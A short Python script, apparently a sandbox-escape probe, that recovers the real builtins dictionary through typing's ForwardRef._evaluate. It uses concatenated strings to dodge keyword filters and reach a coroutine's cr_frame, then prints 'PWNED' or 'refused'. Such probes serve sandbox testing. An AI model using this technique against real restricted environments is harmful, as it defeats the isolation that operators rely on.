# frame: a coroutine's cr_frame by a computed name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

async def co():
    return 1
c = co()
try:
    print(M, ga(c, "cr_fr" + "ame"))
except Exception as e:
    print("refused:", type(e).__name__, e)
finally:
    c.close()
